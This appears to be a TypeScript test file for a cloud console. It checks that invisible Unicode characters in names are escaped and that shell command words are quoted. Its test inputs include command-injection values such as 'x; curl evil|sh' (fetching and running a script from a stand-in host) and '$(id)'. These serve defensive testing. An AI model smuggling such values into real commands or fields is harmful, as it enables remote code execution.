import { deepEqual, equal } from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { visible as visibleInPages } from '../../src/http/visible-text.ts';
import { chromium } from '../support/chromium.ts';
import { needs } from '../support/component.ts';
import { BrowserLab, type Visit } from './browser-lab.ts';

const { visible, isTypedAs, shellWord } = (await import(
  new URL('../../src/console/text/values.ts', import.meta.url).href
)) as {
  visible: (text: string) => string;
  isTypedAs: (typed: string, shown: string) => boolean;
  shellWord: (text: string) => string;
};

test('a character that shows nothing is written out, and what is read stays as it is', () => {
  const hidden = ['deploy\u034f', 'deploy\ufe0f', '\u3164', '\u115f', 'a\u200bb', 'a\u202eb', 'a\u{e0061}'];
  for (const text of hidden) {
    equal(/\\u[0-9a-f]{4}/.test(visible(text)), true, JSON.stringify(text));
    equal(visibleInPages(text).includes('\ufffd'), true, JSON.stringify(text));
  }
  const read = ['deploy', 'd\u00e9ploy', '\ud55c\uad6d\uc5b4 \uc800\uc7a5\uc18c', '\u2764\ufe0f'];
  const emoji = ['\u{1f469}\u200d\u{1f4bb}', '\u{1f44d}\u{1f3fd}', '1\ufe0f\u20e3', '\u{1f1f0}\u{1f1f7}'];
  for (const text of [...read, ...emoji]) {
    equal(visible(text), text);
    equal(visibleInPages(text), text);
  }
});

test('a name is typed as it is seen', () => {
  for (const [typed, name] of [
    ['build\\u200bserver', 'build\u200bserver'],
    ['build\u200bserver', 'build\u200bserver'],
    ['a b', 'a  b '],
    ['a b', 'a\u00a0b'],
    ['caf\u00e9', 'cafe\u0301'],
  ] as const)
    equal(isTypedAs(typed, name), true, name);
  for (const [typed, name] of [
    ['buildserver', 'build\u200bserver'],
    ['', 'a'],
    ['ab', 'a b'],
  ] as const)
    equal(isTypedAs(typed, name), false, name);
});

test('a word of a command does nothing more than stand in it', () => {
  deepEqual(['birds', 'x; curl evil|sh\nid', "it's", '$(id)', '\u001b[201~id'].map(shellWord), [
    'birds',
    "'x; curl evil|sh id'",
    "'it'\\''s'",
    "'$(id)'",
    "' [201~id'",
  ]);
});

describe('names in the console', needs(chromium), () => {
  let lab: BrowserLab;
  let visit: Visit;
  before(async () => {
    lab = await BrowserLab.start();
    visit = await lab.visit();
  });
  after(() => lab[Symbol.asyncDispose]());

  test('what has a hidden character or blanks at its end in its name can be deleted', async () => {
    for (const name of ['build\u200bserver', 'a  b ']) {
      const body = { account_id: lab.registry.accountId, name };
      const { id } = (await (await lab.registry.api('POST', '/v1/serviceids', body)).json()) as {
        id: string;
      };
      await visit.goTo(`/service-ids/${id}`);
      await visit.button('Delete').click();
      const label = await visit.dialog.locator('label').last().innerText();
      await visit.typed().fill(/^Type (.*) to confirm$/.exec(label)?.[1] ?? '');
      await visit.inDialog('Delete: service ID').click();
      await visit.titled('Service IDs').waitFor();
    }
  });

  test('a command that an address fills in is quoted', async () => {
    const hostile = encodeURIComponent('x; curl evil|sh\nid');
    for (const path of [`/policies/new?iam_id=${hostile}`, `/explain?tab=question&action=${hostile}`]) {
      await visit.goTo(path);
      await visit.says(/'x; curl evil\|sh id'/, visit.page.locator('.command code')).waitFor();
    }
  });
});
